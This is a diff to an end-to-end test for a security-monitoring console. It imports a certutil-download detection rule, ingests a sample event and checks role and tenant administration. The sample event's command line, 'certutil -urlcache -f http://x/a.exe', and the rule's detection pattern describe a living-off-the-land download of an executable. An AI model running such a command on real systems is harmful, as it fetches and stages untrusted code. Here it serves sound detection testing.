@@ -38,6 +38,19 @@ fn fetch_in_page(b: &Browser, method: &str, path: &str) -> Value {
     )
 }
 
+/// A rule a tenant imports through the console.
+const CERTUTIL_RULE: &str = "title: Certutil downloads a file
+id: 0b7c4a1e-2222-4c2e-9d3a-5e1f00000001
+level: high
+tags: [attack.command-and-control, attack.t1105]
+logsource: {product: windows, category: process_creation}
+detection:
+  sel:
+    Image|endswith: '\\certutil.exe'
+    CommandLine|contains: urlcache
+  condition: sel
+";
+
 #[test]
 fn analysts_log_in_search_triage_and_stay_within_their_role_and_tenant() {
     let Some(b) = Browser::start() else { return };
@@ -59,6 +72,13 @@ fn analysts_log_in_search_triage_and_stay_within_their_role_and_tenant() {
     let ana_otp = add_user(&s, "ana", "demo", "admin");
     let vic_otp = add_user(&s, "vic", "demo", "viewer");
     let ben_otp = add_user(&s, "ben", "other", "analyst");
+    // ana also runs the server: a global administrator.
+    let out = server::kasbah()
+        .args(["user", "global", "ana", "--data-dir"])
+        .arg(&s.data)
+        .output()
+        .expect("kasbah user global");
+    assert!(out.status.success());
     first_login(&s, "vic", &vic_otp, "viewer password 1");
     first_login(&s, "ben", &ben_otp, "other tenant pw 1");
 
@@ -125,14 +145,78 @@ fn analysts_log_in_search_triage_and_stay_within_their_role_and_tenant() {
     let (_, v) = get_auth(&s.url(&format!("/api/v1/alerts/{id}")), &demo);
     assert_eq!(v["status"], "acknowledged", "{v}");
 
-    // Rules and administration.
+    // Rules: a broken import is refused with its line and code, a good one runs at once.
     b.goto(&s.url("/#/rules"));
     b.find("tr.rule-row");
+    b.wait_text("#import-list", "no rule");
+    let set_yaml = |text: &str| {
+        b.run(
+            "const el = document.querySelector('#import-yaml'); el.value = arguments[0];",
+            json!([text]),
+        );
+    };
+    set_yaml(
+        "title: Broken\nlogsource: {product: windows}\ndetection:\n  sel:\n    Image|nosuch: x\n  condition: sel\n",
+    );
+    b.click_on("#import-run");
+    b.wait_text(".import-diagnostics", "KS");
+    b.type_into("#import-name", "certutil.yml");
+    set_yaml(CERTUTIL_RULE);
+    b.click_on("#import-run");
+    b.wait_text("#import-table", "certutil.yml");
+    b.wait_text("#rules-table", "Certutil downloads a file");
+    b.find("tr.rule-row .badge.imported");
+    b.run(
+        "document.querySelector('#rules-import').scrollIntoView({block: 'start'});",
+        json!([]),
+    );
+    b.screenshot("import");
+    b.run("window.scrollTo(0, 0);", json!([]));
     b.screenshot("rules");
+    let (_, v) = get_auth(&s.url("/api/v1/rules?q=certutil"), &demo);
+    assert_eq!(v["rules"][0]["source"], "imported", "{v}");
+    // The new rule matches a new event of this tenant.
+    let ingest = s.token("demo", "ingest");
+    let (status, v) = server::post(
+        &s.url("/api/v1/ingest"),
+        Some(&ingest),
+        json!({"@timestamp": "2024-03-15T12:00:00Z", "Channel": "Microsoft-Windows-Sysmon/Operational",
+               "EventID": 1, "Computer": "ws9", "Image": "C:\\Windows\\System32\\certutil.exe",
+               "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe"})
+        .to_string()
+        .as_bytes(),
+    );
+    assert_eq!(status, 200, "{v}");
+    s.wait_detection(&demo);
+    let (_, v) = get_auth(
+        &s.url("/api/v1/alerts?rule_id=0b7c4a1e-2222-4c2e-9d3a-5e1f00000001"),
+        &demo,
+    );
+    assert_eq!(v["alerts"].as_array().map(Vec::len), Some(1), "{v}");
+
+    // Administration; a global administrator also sees every tenant and creates one.
     b.goto(&s.url("/#/admin"));
     b.wait_text("#users-table", "vic");
     b.wait_text("#audit-table", "auth.login");
     b.screenshot("admin");
+    b.wait_text("#tenants-table", "other");
+    b.type_into("#tenant-new-name", "acme-cert");
+    b.click_on("#tenant-create");
+    b.wait_text("#tenants-table", "acme-cert");
+    b.run(
+        "document.querySelectorAll('.toast-item').forEach((t) => t.remove());
+         document.querySelector('#admin-tenants').scrollIntoView({block: 'start'});",
+        json!([]),
+    );
+    b.screenshot("tenants");
+    let (_, v) = get_auth(
+        &s.url("/api/v1/audit?q=tenant.create"),
+        &s.token("demo", "admin"),
+    );
+    assert!(
+        v["entries"].as_array().is_some_and(|e| !e.is_empty()),
+        "{v}"
+    );
     // The audit search runs on the server, over the whole trail.
     b.type_into("#audit-filter", "user.role");
     b.wait("audit rows of user.role only", || {
